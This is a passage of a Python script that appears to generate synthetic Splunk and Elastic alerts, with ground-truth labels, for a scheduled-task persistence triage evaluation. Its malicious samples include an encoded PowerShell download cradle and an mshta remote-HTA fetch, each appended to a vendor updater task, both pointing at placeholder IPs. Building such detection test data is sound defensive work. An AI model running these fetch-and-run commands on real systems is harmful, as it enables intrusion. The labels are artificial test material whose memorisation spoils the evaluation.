        return ("open", None, []) if r < 0.85 else ("acknowledged", upd, [])
    if verdict == "malicious":
        return ("acknowledged", upd, ["Incident"]) if r < 0.7 else ("open", None, [])
    if r < 0.5:
        return ("closed", upd, rng.choice([["False Positive"], [], ["False Positive", "Expected behaviour"]]))
    if r < 0.65:
        return ("acknowledged", upd, [])
    return ("open", None, [])


def anc(index, n=1):
    return [{"id": ancestor_id(), "type": "event", "index": index, "depth": 0} for _ in range(n)]


SEC_IDX = ".ds-logs-system.security-default-2027.02.01-000031"
PROC_IDX = ".ds-logs-endpoint.events.process-default-2027.02.01-000047"
FILE_IDX = ".ds-logs-endpoint.events.file-default-2027.02.01-000040"
REG_IDX = ".ds-logs-endpoint.events.registry-default-2027.02.01-000036"
LIB_IDX = ".ds-logs-endpoint.events.library-default-2027.02.01-000035"


def task_body(rule, ev, code, sev):
    return {"_reason": reason(rule, sev, ev, "iam"), "host": host_obj(ev["host"]), "user": user_obj(ev["subject"]),
            "event": win_event_obj(ev, code), "winlog": winlog_task(ev, code),
            "data_stream": {"dataset": "system.security", "namespace": "default", "type": "logs"},
            "message": task_message(ev, code)}


def make_alerts(rule, ev, sink):
    R = ELASTIC_RULES[rule]
    notes = check_notes(rule, ev["story"], R["notes"])
    gt = dict(verdict=ev["story"]["verdict"], notes=notes, scenario=ev["story"]["scenario"])
    when = ev["time"] + timedelta(minutes=rng.randrange(3, 8), seconds=rng.randrange(60), milliseconds=rng.randrange(1000))
    wf = elastic_workflow(ev["story"]["verdict"], day_of(ev), when)
    sev, k = R["severity"], ev["kind"]
    if k in ("4698", "4702"):
        parts = [(task_body(rule, ev, k, sev), ev["time"], anc(SEC_IDX), None)]
    elif k == "tmp_task":
        c, d = ev["created"], ev["deleted"]
        shell = {"_reason": reason(rule, sev, c, "iam"), "host": host_obj(c["host"], full=False),
                 "user": user_obj(c["subject"]), "winlog": {"event_data": {"TaskName": c["task_name"]}}}
        parts = [(shell, c["time"], anc(SEC_IDX, 2), None),
                 (task_body(rule, c, "4698", sev), c["time"], anc(SEC_IDX), 0),
                 (task_body(rule, d, "4699", sev), d["time"], anc(SEC_IDX), 1)]
    elif k == "proc":
        pobj = proc_obj(ev)
        body = {"_reason": reason(rule, sev, ev, "process", " with process %s, parent process %s" % (ev["name"], ev["parent_name"])),
                "host": host_obj(ev["host"]), "user": user_obj(ev["user"]),
                "event": {"action": "start", "category": ["process"], "type": ["start"],
                          "dataset": "endpoint.events.process", "module": "endpoint", "outcome": "unknown"},
                "process": pobj, "data_stream": {"dataset": "endpoint.events.process", "namespace": "default", "type": "logs"}}
        if rule == "Local Scheduled Task Creation":
            shell = {"_reason": reason(rule, sev, ev, "process", " with process %s" % ev["name"]),
                     "host": host_obj(ev["host"], full=False), "user": {"name": ev["user"][1], "domain": ev["user"][0]}}
            parts = [(shell, ev["time"] - timedelta(milliseconds=rng.randrange(300, 3000)), anc(PROC_IDX, 2), None),
                     (body, ev["time"], anc(PROC_IDX), 1)]
        else:
            parts = [(body, ev["time"], anc(PROC_IDX), None)]
    elif k == "script_task":
        eid = entity_id(ev["host"], ev["pid"], ev["time"])
        pshort = {"name": ev["image"].split("\\")[-1], "executable": ev["image"], "pid": ev["pid"], "entity_id": eid}
        shell = {"_reason": reason(rule, sev, ev, "library", " with process %s" % pshort["name"]),
                 "host": host_obj(ev["host"], full=False), "user": {"name": ev["user"][1], "domain": ev["user"][0]},
                 "process": {"entity_id": eid, "name": pshort["name"]}}
        lib = {"_reason": reason(rule, sev, ev, "library", " with process %s, file taskschd.dll" % pshort["name"]),
               "host": host_obj(ev["host"]), "user": user_obj(ev["user"]),
               "event": {"action": "load", "category": ["library"], "type": ["start"],
                         "dataset": "endpoint.events.library", "module": "endpoint"},
               "dll": {"name": "taskschd.dll", "path": "C:\\Windows\\System32\\taskschd.dll",
                       "code_signature": {"trusted": True, "subject_name": "Microsoft Windows", "status": "trusted"}},
               "process": dict(pshort, command_line=ev["cmdline"], args=win_args(ev["cmdline"]),
                               parent={"name": ev["parent_image"].split("\\")[-1], "executable": ev["parent_image"]}),
               "data_stream": {"dataset": "endpoint.events.library", "namespace": "default", "type": "logs"}}
        reg_t = ev["time"] + timedelta(milliseconds=rng.randrange(200, 900))
        regp = "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tasks\\%s\\Actions" % ev["task_key"]
        regb = {"_reason": reason(rule, sev, ev, "registry", " with process %s" % pshort["name"]),
                "host": host_obj(ev["host"]), "user": user_obj(ev["user"]),
                "event": {"action": "modification", "category": ["registry"], "type": ["change"],
                          "dataset": "endpoint.events.registry", "module": "endpoint"},
                "registry": {"hive": "HKLM", "path": regp, "key": regp.rsplit("\\", 1)[0][5:], "value": "Actions",
                             "data": {"type": "REG_BINARY"}},
                "process": pshort, "data_stream": {"dataset": "endpoint.events.registry", "namespace": "default", "type": "logs"}}
        parts = [(shell, ev["time"], anc(LIB_IDX) + anc(REG_IDX), None), (lib, ev["time"], anc(LIB_IDX), 0),
                 (regb, reg_t, anc(REG_IDX), 1)]
    elif k == "wfile":
        name = ev["path"].split("\\")[-1]
        body = {"_reason": reason(rule, sev, ev, "file", " with process %s, file %s" % (ev["name"], name)),
                "host": host_obj(ev["host"]), "user": user_obj(ev["user"]),
                "event": {"action": "overwrite" if "SYSVOL" in ev["path"] else "creation", "category": ["file"],
                          "type": ["change"] if "SYSVOL" in ev["path"] else ["creation"],
                          "dataset": "endpoint.events.file", "module": "endpoint"},
                "file": {"path": ev["path"], "name": name, "directory": ev["path"].rsplit("\\", 1)[0],
                         "extension": name.rsplit(".", 1)[-1]},
                "process": {"name": ev["name"], "pid": ev["pid"]} if ev["image"] is None else
                {"name": ev["name"], "executable": ev["image"], "pid": ev["pid"]},
                "data_stream": {"dataset": "endpoint.events.file", "namespace": "default", "type": "logs"}}
        parts = [(body, ev["time"], anc(FILE_IDX), None)]
    elif k == "5145":
        dom, name, sid = ev["subject"]
        ed = {"SubjectUserSid": sid, "SubjectUserName": name, "SubjectDomainName": dom, "SubjectLogonId": ev["logon_id"],
              "ObjectType": "File", "IpAddress": ev["ip"], "IpPort": ev["port"], "ShareName": "\\\\*\\SYSVOL",
              "ShareLocalPath": "\\??\\C:\\Windows\\SYSVOL\\sysvol", "RelativeTargetName": ev["rel"],
              "AccessMask": "0x2", "AccessList": "%%4417\n\t\t\t\t",
              "AccessReason": "%%1541:\t%%1801\tD:(A;;FA;;;BA)\n\t\t\t\t"}
        body = {"_reason": reason(rule, sev, ev, "file"), "host": host_obj(ev["host"]), "user": user_obj(ev["subject"]),
                "source": {"ip": ev["ip"], "port": int(ev["port"])},
                "event": {"code": "5145", "action": "network-share-object-access-checked", "category": ["network", "file"],
                          "type": ["info", "access"], "provider": "Microsoft-Windows-Security-Auditing",
                          "outcome": "success", "module": "system", "dataset": "system.security",
                          "created": fmt_z(ev["time"] + timedelta(seconds=2)), "ingested": fmt_z(ev["time"] + timedelta(seconds=8))},
                "winlog": {"channel": "Security", "computer_name": ed_fqdn(ev["host"]), "event_id": "5145",
                           "provider_name": "Microsoft-Windows-Security-Auditing",
                           "provider_guid": "{54849625-5478-4994-A5BA-3E3B0328C30D}", "record_id": ev["record_id"],
                           "version": 1, "keywords": ["Audit Success"], "event_data": ed},
                "data_stream": {"dataset": "system.security", "namespace": "default", "type": "logs"},
                "message": ("A network share object was checked to see whether client can be granted desired access.\n\n"
                            "Subject:\n\tSecurity ID:\t\t%s\n\tAccount Name:\t\t%s\n\tAccount Domain:\t\t%s\n\tLogon ID:\t\t%s\n\n"
                            "Network Information:\t\n\tObject Type:\t\tFile\n\tSource Address:\t\t%s\n\tSource Port:\t\t%s\n\n"
                            "Share Information:\n\tShare Name:\t\t\\\\*\\SYSVOL\n\tShare Path:\t\t\\??\\C:\\Windows\\SYSVOL\\sysvol\n"
                            "\tRelative Target Name:\t%s\n\nAccess Request Information:\n\tAccess Mask:\t\t0x2\n"
                            "\tAccesses:\t\tWriteData (or AddFile)\n\t\t\t\t"
                            % (sid, name, dom, ev["logon_id"], ev["ip"], ev["port"], ev["rel"]))}
        parts = [(body, ev["time"], anc(SEC_IDX), None)]
    elif k == "reg":
        regp = "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\Configuration\\EnableAt"
        body = {"_reason": reason(rule, sev, ev, "registry", " with process reg.exe"), "host": host_obj(ev["host"]),
                "user": user_obj(ev["user"]),
                "event": {"action": "modification", "category": ["registry"], "type": ["change"],
                          "dataset": "endpoint.events.registry", "module": "endpoint"},
                "registry": {"hive": "HKLM", "path": regp, "key": "SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\Configuration",
                             "value": "EnableAt", "data": {"strings": ["1"], "type": "REG_DWORD"}},
                "process": {"name": "reg.exe", "executable": ev["image"], "pid": ev["pid"], "command_line": ev["cmdline"],
                            "args": win_args(ev["cmdline"])},
                "data_stream": {"dataset": "endpoint.events.registry", "namespace": "default", "type": "logs"}}
        parts = [(body, ev["time"], anc(REG_IDX), None)]
    elif k == "lfile":
        fname = ev["path"].rsplit("/", 1)[1]
        f = {"path": ev["path"], "name": fname, "directory": ev["path"].rsplit("/", 1)[0]}
        if "." in fname.strip("."):
            f["extension"] = fname.rsplit(".", 1)[1]
        body = {"_reason": reason(rule, sev, ev, "file", " with process %s, file %s" % (ev["name"], fname)),
                "host": host_obj(ev["host"]), "user": luser_obj(ev),
                "event": {"action": ev["action"], "category": ["file"], "type": ["creation"],
                          "dataset": "endpoint.events.file", "module": "endpoint"},
                "file": f, "process": lproc_obj(ev),
                "data_stream": {"dataset": "endpoint.events.file", "namespace": "default", "type": "logs"}}
        parts = [(body, ev["time"], anc(FILE_IDX), None)]
    elif k == "lproc":
        body = {"_reason": reason(rule, sev, ev, "process", " with process %s, parent process %s" % (ev["name"], ev["parent_name"])),
                "host": host_obj(ev["host"]), "user": luser_obj(ev),
                "event": {"action": "exec", "category": ["process"], "type": ["start"],
                          "dataset": "endpoint.events.process", "module": "endpoint"},
                "process": lproc_obj(ev),
                "data_stream": {"dataset": "endpoint.events.process", "namespace": "default", "type": "logs"}}
        parts = [(body, ev["time"], anc(PROC_IDX), None)]
    else:
        raise SystemExit("no Elastic renderer for %s" % k)
    sink.add(rule, ev, parts, gt, when, wf)


# ----------------------------------------------------------------------------------------------
# Output
# ----------------------------------------------------------------------------------------------

def note_ids(notes):
    return ";".join("t1053-%02d" % n for n in notes)


def with_action(content, command, arguments=None):
    """The task definition with one more Exec action after its others (a task runs them all, in order)."""
    x = xml_escape
    L = ["    <Exec>", "      <Command>%s</Command>" % x(command)]
    if arguments:
        L.append("      <Arguments>%s</Arguments>" % x(arguments))
    L.append("    </Exec>")
    return content.replace("  </Actions>", "\r\n".join(L) + "\r\n  </Actions>")


def build_multi_action_events():
    """Tasks with several actions (engine version 8 reads them all). Built after every other story, so that
    the records of those keep their random draws."""
    # SharPersist's "schtaskbackdoor" method adds an action to an existing task through the Task Scheduler COM
    # API: the vendor's own action stays first, and Security logs a 4702 with the new definition.
    host, u = "lap-eng-05", "jkim"
    t = at(10, 15, 22)
    g = "{6C2A0F7B-1D3E-4B8A-9C5D-2E7F1A0B3C4D}"
    tn = "\\GoogleUpdateTaskMachineUA" + g
    gup = "C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe"
    x = task_xml(t - timedelta(days=120), None, tn, [trig_daily(boundary(t, 11, 58))], gup, "/ua /installsource scheduler",
                 user_id="S-1-5-18", logon_type="ServiceAccount", run_level="HighestAvailable")
    enc = ps_enc("IEX (New-Object Net.WebClient).DownloadString('https://198.51.100.23/u/a.ps1')")
    emit(task4698(host, t, duser(u), tn, with_action(x, "powershell.exe", "-nop -w hidden -enc " + enc), code=4702),
         bad("SharPersist schtaskbackdoor appends a hidden encoded PowerShell cradle to Google's updater task"))
    # The same technique on the Adobe updater task, loading a DLL from ProgramData with rundll32.
    host, u = "desk-fin-02", "ejohansson"
    t = at(12, 10, 41)
    tn = "\\Adobe Acrobat Update Task"
    arm = "C:\\Program Files (x86)\\Common Files\\Adobe\\ARM\\1.0\\AdobeARM.exe"
    x = task_xml(t, "%s\\%s" % (NETBIOS, u), tn, [trig_logon(), trig_daily(boundary(t, 12, 0))], arm,
                 user_id="%s\\%s" % (NETBIOS, u), logon_type="InteractiveToken")
    emit(task4698(host, t, duser(u), tn,
                  with_action(x, "C:\\Windows\\System32\\rundll32.exe",
                              "C:\\ProgramData\\Adobe\\ARM\\armsvc.dll,DllRegisterServer")),
         bad("Adobe Acrobat Update Task re-registered with a second action: rundll32 on a DLL in ProgramData"))
    # Edge's updater task name with the genuine first action and an HTA fetched from the internet after it.
    host, u = "lap-sales-03", "omensah"
    t = at(15, 16, 5)
    tn = "\\MicrosoftEdgeUpdateTaskMachineCore"
    edge = "C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe"
    x = task_xml(t, "%s\\%s" % (NETBIOS, u), tn, [trig_logon()], edge, "/c", user_id=usid(u),
                 logon_type="InteractiveToken")
    emit(task4698(host, t, duser(u), tn, with_action(x, "mshta.exe", "https://203.0.113.77/edge/upd.hta")),
         bad("Edge updater task name with the genuine updater first and mshta fetching an HTA second"))
    # Administrators chain steps in one task: index maintenance, then copying the backups off the server.
    admin, target = "adm_okim", "sql-02"
    t = at(3, 11, 17)
    tn = "\\Contoso\\SQLNightlyMaintenance"
    x = task_xml(t, "%s\\%s" % (NETBIOS, admin), tn, [trig_daily(boundary(t, 0, 45))],
                 "C:\\Program Files\\Microsoft SQL Server\\Client SDK\\ODBC\\170\\Tools\\Binn\\SQLCMD.EXE",
                 "-S localhost -E -i D:\\Ops\\IndexMaintenance.sql -o D:\\Ops\\IndexMaintenance.log",
                 user_id="%s\\svc_sqlbackup" % NETBIOS, logon_type="Password")
    x = with_action(x, "robocopy", "D:\\SQLBackup \\\\fs-01\\sqlbackup$\\%s /MIR /R:2 /W:5" % target)
    emit(task4698(target, t, duser(admin), tn, x, remote=True),
         benign("%s creates a two-step SQL maintenance task (sqlcmd, then robocopy) on %s from a jump host"
                % (admin, target), A_scheduled_task_was_created=[], Remote_Scheduled_Task_Creation_via_RPC=[],
                WinEvent_Scheduled_Task_Created_to_Spawn_Shell=[13]))  # *cmd.exe* matches SQLCMD.EXE
    admin, target = "adm_tpetrov", "web-iis-01"
    t = at(4, 14, 2)
    tn = "\\Contoso\\IISLogArchive"
    x = task_xml(t, "%s\\%s" % (NETBIOS, admin), tn, [trig_weekly(boundary(t, 3, 30), "Saturday")], "powershell.exe",
                 "-NoProfile -ExecutionPolicy Bypass -File D:\\Ops\\Compress-IISLogs.ps1 -OlderThanDays 7",
                 user_id="S-1-5-18", logon_type="ServiceAccount")
    x = with_action(x, "powershell.exe",
                    "-NoProfile -File D:\\Ops\\Send-OpsReport.ps1 -Task IISLogArchive -To ops@" + DOMAIN)
    emit(task4698(target, t, duser(admin), tn, x, remote=True),
         benign("%s creates a two-action IIS log archive task (compress, then mail a report) on %s from a jump host"
                % (admin, target), A_scheduled_task_was_created=[], Remote_Scheduled_Task_Creation_via_RPC=[],
                WinEvent_Scheduled_Task_Created_to_Spawn_Shell=[13]))


def main():
    build_events()
    build_multi_action_events()
    splunk, sink = [], AlertSink()
    for ev in EVENTS:
        k = ev["kind"]
        if k not in ("tmp_task", "script_task", "5145", "wfile", "4702"):
            for rule in splunk_match(ev):
                row, when, gt = make_notable(rule, ev)
                splunk.append((when, len(splunk), row, gt))
        for rule in elastic_match(ev):
            make_alerts(rule, ev, sink)
    # every benign story must have produced at least one record for each rule it declared
    # (guards against typos in the declared rule names)
    for ev in EVENTS:
        st = ev["story"]
        fired = set(splunk_match(ev) if ev["kind"] not in ("tmp_task", "script_task", "5145", "wfile", "4702") else [])
        fired |= set(elastic_match(ev))
        for r in st["notes"]:
            if r not in SPLUNK_RULES and r not in ELASTIC_RULES:
                raise SystemExit("unknown rule %r in story %r" % (r, st["scenario"]))
        if st["verdict"] == "benign" and not fired:
            raise SystemExit("benign event fires nothing: %r" % st["scenario"])
    splunk.sort(key=lambda r: (-r[0].timestamp(), r[1]))  # Incident Review: newest first
    docs = sorted(sink.docs, key=lambda d: (-d[0].timestamp(), d[1]))

    with open(os.path.join(OUT_DIR, "eval_splunk_notables.csv"), "w", encoding="utf-8", newline="") as f:
        w = csv.writer(f, lineterminator="\n")
        w.writerow(SPLUNK_HEADER)
        for _, _, row, _ in splunk:
            w.writerow([row[c] for c in SPLUNK_HEADER])
    with open(os.path.join(OUT_DIR, "eval_elastic_alerts.ndjson"), "w", encoding="utf-8", newline="\n") as f:
        for _, _, doc, _ in docs:
            f.write(json.dumps(doc, separators=(",", ":"), ensure_ascii=False) + "\n")
    with open(os.path.join(OUT_DIR, "labels.csv"), "w", encoding="utf-8", newline="") as f:
        w = csv.writer(f, lineterminator="\n")
        w.writerow(["source_file", "record_no", "verdict", "notes", "scenario"])
        for i, (_, _, _, gt) in enumerate(splunk):
            w.writerow(["eval_splunk_notables.csv", i, gt["verdict"], note_ids(gt["notes"]), gt["scenario"]])
        for i, (_, _, _, gt) in enumerate(docs):
            w.writerow(["eval_elastic_alerts.ndjson", i, gt["verdict"], note_ids(gt["notes"]), gt["scenario"]])

    def count(rows):
        m = sum(1 for r in rows if r[3]["verdict"] == "malicious")
        return len(rows), len(rows) - m, m
    for name, rows in (("eval_splunk_notables.csv", splunk), ("eval_elastic_alerts.ndjson", docs)):
        n, b, m = count(rows)
        print("%-22s %4d records  benign %4d  malicious %3d" % (name, n, b, m))


if __name__ == "__main__":
    main()
